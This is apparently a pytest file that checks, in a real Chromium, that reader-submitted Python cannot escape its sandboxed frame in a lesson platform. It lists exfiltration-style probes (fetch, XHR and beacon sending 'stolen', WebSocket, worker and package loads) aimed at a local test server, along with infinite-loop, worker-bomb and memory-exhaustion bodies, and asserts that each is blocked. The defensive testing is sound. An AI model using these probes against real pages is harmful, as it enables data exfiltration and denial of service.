"""Code of a reader's, and of whoever sends him some, cannot leave the frame that it runs in. In a real Chromium."""

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import pytest

from lessons.course.catalog import get_catalog
from lessons.runs.parcel import parcel
from tests.browser import watched
from tests.conftest import free_port, gunicorn, serve
from tests.in_browser import started

LESSON = "n_plus_one/forward_foreign_key"


@pytest.fixture(scope="module")
def access_log(tmp_path_factory):
    return tmp_path_factory.mktemp("cage") / "access.log"


@pytest.fixture(scope="module")
def logged_site(access_log, shelves_at_hand, static_files):
    """The site as on a server, with a log of what was asked of it."""
    port = free_port()
    yield from serve([*gunicorn(port)[:-1], str(access_log)], port)


@pytest.fixture(scope="module")
def elsewhere():
    """Another server on this machine: its address, and what was asked of it."""
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


@pytest.fixture(
    scope="module",
    params=[
        pytest.param("block", marks=pytest.mark.soak, id="no service worker"),
        pytest.param("allow", id="a service worker"),
    ],
)
def page(logged_site, chromium, request):
    """With a service worker the frame is within another one: see frontend/runtime/frame.js."""
    page = watched(chromium.new_page(service_workers=request.param))
    page.goto(f"{logged_site}/summary/")
    if request.param == "allow":
        page.wait_for_selector("html[data-offline=ready]")
    return page


def test_frame_is_sandboxed_by_the_page_or_within(page, run):
    sandboxes = "[...document.querySelectorAll('iframe')].map((frame) => frame.getAttribute('sandbox'))"
    is_within = page.evaluate("navigator.serviceWorker.controller !== null")
    assert works(run)
    assert page.evaluate(sandboxes) == [None if is_within else "allow-scripts"]
    holder = page.main_frame.child_frames[0]
    if is_within:
        assert holder.evaluate(sandboxes) == ["allow-scripts"]
        assert holder.child_frames[0].evaluate("self.origin") == "null"
    else:
        assert holder.evaluate("self.origin") == "null"


@pytest.fixture(scope="module")
def run(logged_site, page):
    """Run a body of run() as a reader's code. Returns what it returns as texts, or how it ended."""
    with started(page, logged_site) as ask:

        def run(body, seconds=60):
            indented = "\n".join(f"    {line}" for line in body.strip().splitlines())
            sent = parcel(get_catalog().lesson(LESSON))
            message = {"do": "run", "lesson": sent, "variant": "naive", "books": 10}
            return ask({**message, "code": f"import js\n\n\ndef run():\n{indented}\n"}, seconds)

        yield run
    page.close()


def returned(reply):
    assert reply["run"]["status"] == "ok", reply["run"]["error"]
    return [value for row in reply["run"]["preview"] for value in row]


def error(reply):
    assert reply["run"]["status"] == "raised", reply
    return reply["run"]["error"]


def works(run):
    return returned(run("return [1 + 1]")) == ["2"]


@pytest.mark.parametrize(
    "name", ["document", "window", "localStorage", "sessionStorage", "parent", "top", "opener", "cookieStore"]
)
def test_what_belongs_to_a_page_is_not_there(run, name):
    assert "AttributeError" in error(run(f"return [str(js.{name})]"))


def test_its_origin_is_nobodys(run):
    assert returned(run("return [js.self.origin]")) == ["'null'"]


def test_nothing_is_stored(run):
    assert "SecurityError" in error(run('js.indexedDB.open("kept")\nreturn [1]'))
    assert "caches" in error(run('js.caches.open("kept")\nreturn [1]'))


def test_no_service_worker(run):
    assert "serviceWorker" in error(run("return [str(js.navigator.serviceWorker)]"))


@pytest.mark.parametrize("text", ["1 + 1", "import('{elsewhere}/module.js')"])
def test_no_text_becomes_javascript(run, elsewhere, text):
    text = text.format(elsewhere=elsewhere[0])
    assert "EvalError" in error(run(f'js.eval("{text}")\nreturn [1]'))
    assert "EvalError" in error(run(f'js.Function.new("{text}")()\nreturn [1]'))


_ASKING = {
    "fetch": 'js.fetch("{url}")',
    "fetch without CORS": 'js.fetch("{url}", js.JSON.parse(\'{{"mode": "no-cors", "credentials": "include"}}\'))',
    "XHR": 'x = js.XMLHttpRequest.new()\nx.open("POST", "{url}", False)\nx.send("stolen")',
    "WebSocket": 'js.WebSocket.new("{ws}")',
    "EventSource": 'js.EventSource.new("{url}")',
    "importScripts": 'js.importScripts("{url}")',
    "worker": 'js.Worker.new("{url}")',
    "beacon": 'js.navigator.sendBeacon("{url}", "stolen")',
    "pyodide.http": 'from pyodide.http import open_url\nopen_url("{url}")',
    "urllib": 'from urllib.request import urlopen\nurlopen("{url}", timeout=3)',
    "package": 'import pyodide_js\npyodide_js.loadPackage("{url}/a-1-py3-none-any.whl")',
    "nested worker": (
        "script = \"data:text/javascript,fetch('{url}',{{mode:'no-cors'}});import('{url}')\"\n"
        'js.Worker.new(script, js.JSON.parse(\'{{"type": "module"}}\'))'
    ),
}


def until_logged(access_log, path, seconds=10):
    """The log, once it names a path: a line is written after the answer is sent."""
    ends = time.monotonic() + seconds
    while path not in access_log.read_text():
        assert time.monotonic() < ends, f"{path} is not in {access_log.read_text()}"
        time.sleep(0.02)
    return access_log.read_text()


@pytest.mark.parametrize("way", _ASKING)
def test_nobody_is_asked_for_anything(run, page, logged_site, access_log, elsewhere, way):
    address, asked = elsewhere
    for at in (address, logged_site):
        url = f"{at}/from-the-cage"
        run(_ASKING[way].format(url=url, ws=url.replace("http", "ws")) + "\nreturn [1]")
    page.wait_for_timeout(500)  # what is under way would arrive
    assert asked == []
    page.request.get(f"{logged_site}/after-{quote(way)}/")
    assert "from-the-cage" not in until_logged(access_log, f"after-{quote(way)}")
    assert works(run)


def test_this_way_of_looking_sees_what_is_asked(page, elsewhere, logged_site, access_log):
    """The control: the page itself may ask the site, and the frame's policy is what refuses."""
    page.evaluate("url => fetch(url)", f"{logged_site}/from-the-page/")
    page.trouble.clear()  # Chromium tells of the 404
    until_logged(access_log, "from-the-page")
    assert page.request.get(f"{elsewhere[0]}/control").ok
    elsewhere[1].remove("/control")


@pytest.mark.parametrize(
    "body",
    [
        "while True: pass",
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        "for n in range(10**9):\n    js.self.postMessage(n)",
        "workers = [js.Worker.new('data:text/javascript,for(;;);') for _ in range(20)]\nwhile True: pass",
        "import time\ntime.sleep(1000)",
    ],
)
def test_what_does_not_end_is_ended_and_the_page_lives(run, page, body):
    assert run(body, seconds=3)["ended"] == "time"
    assert page.evaluate("1 + 1") == 2
    assert works(run), "the next run has a fresh Python"


def test_stop_ends_it(run, page):
    page.evaluate("setTimeout(() => window.runtime.stop(), 1500)")
    assert run("while True: pass")["ended"] == "stopped"
    assert works(run)


@pytest.mark.parametrize(
    "body",
    [
        "return [len([0] * 10**9)]",
        "kept = []\nwhile True: kept.append('x' * 10**7)",
        "return [len('x' * 2 * 10**9)]",
    ],
)
def test_memory_has_a_limit(run, body):
    reply = run(body)
    assert "MemoryError" in str(reply) or reply.get("ended") == "fault"
    assert works(run)


def test_many_rows_are_bounded(run):
    assert run("return (n for n in range(10**9))")["run"]["status"] == "stopped"


@pytest.mark.parametrize("reply", ["'x' * 10**7", "'no JSON'", "None"])
def test_reply_of_its_own_making_is_refused(run, reply):
    body = f"""
from types import SimpleNamespace
from lessons.browser import answers
answers.json = SimpleNamespace(dumps=lambda _: {reply})
return [1]"""
    assert run(body)["ended"] == "fault"
    assert works(run)


def test_files_are_those_of_the_worker(run):
    assert returned(run("import os\nreturn [sorted(os.listdir('/'))[0]]")) == ["'data'"]
